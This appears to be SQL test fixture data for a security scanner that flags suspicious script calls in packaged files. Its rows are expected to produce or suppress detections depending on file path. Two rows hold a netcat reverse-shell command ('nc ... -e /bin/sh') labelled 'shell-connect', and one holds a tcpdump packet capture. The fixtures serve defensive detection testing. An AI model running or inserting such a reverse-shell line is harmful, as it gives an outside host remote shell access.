-- holds
INSERT INTO object (id, sha256, size, type, state)
VALUES (1, '0101010101010101010101010101010101010101010101010101010101010101', 1000, 'text', 'examined');
INSERT INTO place (id, object, format, kind, name, path, container, mode)
VALUES (1, 1, 'squashfs', 'file', 'tool', '/usr/bin/tool', '', 493);
INSERT INTO script_call (object, at, len, pattern, program, text, line)
VALUES (1, 10, 10, 'shell-connect', 'x', 'nc 10.0.0.1 99 -e /bin/sh', 3);
-- silent
INSERT INTO object (id, sha256, size, type, state)
VALUES (1, '0101010101010101010101010101010101010101010101010101010101010101', 1000, 'text', 'examined');
INSERT INTO place (id, object, format, kind, name, path, container, mode)
VALUES (1, 1, 'squashfs', 'file', 'tool', '/usr/share/doc/x/examples/tool', '', 493);
INSERT INTO script_call (object, at, len, pattern, program, text, line)
VALUES (1, 10, 10, 'shell-connect', 'x', 'nc 10.0.0.1 99 -e /bin/sh', 3);
-- silent
INSERT INTO object (id, sha256, size, type, state)
VALUES (1, '0101010101010101010101010101010101010101010101010101010101010101', 1000, 'text', 'examined');
INSERT INTO place (id, object, format, kind, name, path, container, mode)
VALUES (1, 1, 'squashfs', 'file', 'tool', '/usr/bin/tool', '', 493);
INSERT INTO script_call (object, at, len, pattern, program, text, line)
VALUES (1, 10, 10, 'packet-capture', 'x', 'tcpdump -i x', 3);
